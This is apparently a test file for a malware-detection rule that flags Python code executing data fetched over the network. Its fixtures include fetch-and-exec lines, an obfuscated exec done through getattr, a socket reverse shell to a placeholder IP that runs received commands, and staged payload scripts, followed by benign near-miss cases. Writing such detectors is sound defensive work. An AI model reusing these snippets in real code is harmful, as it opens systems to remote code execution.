"""Network data that is executed."""

from lazaretto.detect.rules.python.remote_code_executed import RULE


def test_exec_of_a_response(scan):
    text = r"""import urllib.request as u
exec(u.urlopen("https://files.example.test/a.py").read())
"""
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]


def test_the_same_through_aliases_helpers_and_a_session(scan):
    text = r"""from requests import Session as S
run = getattr(__builtins__, "ex" + "ec")
def fetch(address):
    with S() as client:
        return client.get(address).text
def load():
    run(compile(fetch("https://files.example.test/a.py"), "a", "exec"))
"""
    assert scan(RULE, text) == [(7, "HIGH", "HIGH", "run")]


def test_a_shell_command_from_a_socket(scan):
    text = r"""import socket, os
s = socket.socket()
s.connect(("192.0.2.7", 4444))
while True:
    os.system(s.recv(1024).decode())
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "import")]


def test_in_the_program_of_a_child(scan):
    text = r"""import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import requests as r; exec(r.get('https://files.example.test/a').text)"])
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_in_a_program_that_is_written_first(scan):
    text = r"""import os
with open("/tmp/next.py", "w") as f:
    f.write("import urllib.request\nexec(urllib.request.urlopen('https://files.example.test/a').read())")
os.system("python3 /tmp/next.py &")
"""
    assert scan(RULE, text, "package/__init__.py") == [(4, "HIGH", "HIGH", "import")]


def test_python_2(scan):
    text = r"""import urllib2
print "installing"
exec urllib2.urlopen("http://files.example.test/a").read()
"""
    assert scan(RULE, text, "setup.py") == [(3, "HIGH", "HIGH", "install")]


def test_near_miss_a_value_inside_a_fixed_command(scan):
    text = r"""import requests, subprocess
version = requests.get("https://files.example.test/latest.json").json()["version"]
subprocess.run(["tool", "install", f"x=={version}"])
"""
    assert scan(RULE, text) == []


def test_near_miss_the_usual_version_file(scan):
    text = r"""import requests
about = {}
exec(compile(open("package/version.py").read(), "version.py", "exec"), about)
"""
    assert scan(RULE, text, "setup.py") == []


def test_near_miss_a_model_in_evaluation_mode(scan):
    text = r"""import requests
model = load(requests.get("https://files.example.test/weights").content)
model.eval()
"""
    assert scan(RULE, text) == []
